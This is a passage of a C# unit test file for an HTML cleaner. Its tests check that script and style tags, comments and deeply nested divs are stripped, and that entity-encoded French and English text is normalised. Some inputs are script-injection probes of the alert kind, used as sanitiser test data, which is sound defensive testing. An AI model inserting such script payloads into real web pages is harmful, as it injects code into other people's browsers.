        var html = "<script>alert('x')</script><style>p{}</style>&lt;b&gt; 1 &amp; 2 <!-- c -->" + new StringBuilder().Insert(0, "<div>", 500);

        var cleaned = Clean(html);

        Assert.Equal("<p>" + HtmlCleaner.DegradedMarker + "</p><p>&lt;b&gt; 1 &amp; 2</p>", cleaned);
    }

    [Theory]
    [InlineData("Loyers en hausse &amp; salaires", "Loyers en hausse &amp; salaires")]
    [InlineData("L&rsquo;&eacute;t&eacute; arrive", "L’été arrive")]
    [InlineData("don&#146;t &#150; ok", "don’t – ok")]
    [InlineData("&lt;script&gt;alert(1)&lt;/script&gt;", "&lt;script&gt;alert(1)&lt;/script&gt;")]
    [InlineData("  fin  ", "fin")]
    public void TextWithoutTagsIsOnlyNormalisedLikeTheSanitiserWould(string input, string expected)
    {
        Assert.Equal(expected, new HtmlCleaner().Clean(input, null));
    }
}
